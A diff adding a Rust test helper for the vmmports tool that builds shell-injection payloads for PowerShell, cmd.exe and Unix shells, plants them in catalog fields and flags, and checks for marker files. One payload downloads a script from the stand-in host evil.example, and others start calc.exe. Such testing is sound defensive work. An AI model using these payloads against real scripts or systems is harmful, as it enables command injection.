@@ -1,0 +1,110 @@
+//! A corpus of hostile input for the paste-safety tests: text that would
+//! run something if any shell an admin pastes into read it as code, put
+//! into every place of a catalog that reaches a script, and into the flags.
+//!
+//! Each payload names the marker file it would create, so a test only has to
+//! look for files called `pwned*`.
+
+use std::path::{Path, PathBuf};
+
+use vmmports::catalog::Catalog;
+
+/// Text that means harm in at least one of PowerShell, cmd.exe, bash, dash
+/// or zsh, and holds no `|` (which Windows refuses in rule descriptions; see
+/// [`PIPE`]).
+pub const PAYLOADS: [&str; 8] = [
+    // PowerShell: a sub-expression and a statement after `;`.
+    "(iwr http://evil.example/x.ps1 -OutFile pwned-ps1); Start-Process calc.exe",
+    // sh: command substitution in both spellings.
+    "$(touch pwned-subst) `touch pwned-tick`",
+    // Every shell: a second statement, and a comment that is none in zsh.
+    "x; touch pwned-semi; :",
+    // sh and cmd.exe: and-lists and redirection.
+    "a && touch pwned-and > pwned-redirect",
+    // Quotes of every kind that could end a string early.
+    "host's Configure > System \"q\" ‘curly’ “dq” ' ; touch pwned-quote ; '",
+    // cmd.exe: `&`, `^`, variables, delayed expansion.
+    "& echo x > pwned-cmd ^& %PATH% !PATH!",
+    // PowerShell: variables, script blocks, a hash literal, redirection.
+    "#{x}; $env:x; @{a=1}; Write-Output 1 > pwned-psredirect",
+    // zsh: globs, history, `=cmd` expansion, a brace group.
+    "=touch ^x *(e:'touch pwned-glob':) !! { touch pwned-brace }",
+];
+
+/// `|`, which pipes in every shell and which Windows Firewall refuses in a
+/// rule's name or description.
+pub const PIPE: &str = "a | touch pwned-pipe";
+
+/// Flags whose values reach a script: the group, in its hostile forms that
+/// are still fair for the sh family and PowerShell's quoting.
+pub const GROUPS: [&str; 4] = [
+    "VMM; Start-Process calc.exe",
+    "VMM $(touch pwned-group) `touch pwned-group2`",
+    "VMM' ; touch pwned-group3 ; '",
+    "VMM #{a} %PATH% $x",
+];
+
+/// The embedded catalog with a payload in every text that reaches a
+/// script: the title, the source, each component's name and place of
+/// configuration, and each port's service and purpose (rule descriptions).
+/// `with_pipe` also puts [`PIPE`] in one purpose.
+pub fn catalog(with_pipe: bool) -> Catalog {
+    let mut catalog = vmmports::catalog::embedded().expect("the embedded catalog loads");
+    let mut payloads = PAYLOADS.iter().cycle();
+    let mut next = || *payloads.next().unwrap();
+    catalog.title = format!("VMM {}", next());
+    catalog.source = format!("docs {}", next());
+    for component in &mut catalog.components {
+        component.name = format!("{} {}", component.name, next());
+        if component.configured_in.is_some() {
+            component.configured_in = Some(format!("settings {}", next()));
+        }
+    }
+    for connection in &mut catalog.connections {
+        for port in &mut connection.ports {
+            port.service = format!("{} {}", port.service, next());
+            port.purpose = format!("{} {}", port.purpose, next());
+        }
+    }
+    if with_pipe {
+        catalog.connections[0].ports[0].purpose = format!("reaches {PIPE}");
+    }
+    catalog
+}
+
+/// Writes [`catalog`] as a JSON catalog file in `dir`, for `--data`.
+pub fn catalog_file(dir: &Path, with_pipe: bool) -> PathBuf {
+    let path = dir.join(if with_pipe {
+        "hostile-pipe.json"
+    } else {
+        "hostile.json"
+    });
+    std::fs::write(&path, vmmports::catalog::to_json(&catalog(with_pipe))).unwrap();
+    path
+}
+
+/// `vmmports ARGS` with an empty config folder, so no admin's file plays in.
+pub fn vmmports(args: &[&str]) -> std::process::Output {
+    let config = tempfile::tempdir().unwrap();
+    std::process::Command::new(assert_cmd::cargo::cargo_bin("vmmports"))
+        .args(args)
+        .env("XDG_CONFIG_HOME", config.path())
+        .env_remove("NO_COLOR")
+        .output()
+        .unwrap()
+}
+
+/// Every `pwned*` file under `dir`: what a payload would have created.
+pub fn markers(dir: &Path) -> Vec<String> {
+    let mut found = Vec::new();
+    for entry in std::fs::read_dir(dir).unwrap() {
+        let entry = entry.unwrap();
+        let name = entry.file_name().to_string_lossy().into_owned();
+        if name.starts_with("pwned") {
+            found.push(name);
+        } else if entry.file_type().unwrap().is_dir() {
+            found.extend(markers(&entry.path()));
+        }
+    }
+    found
+}
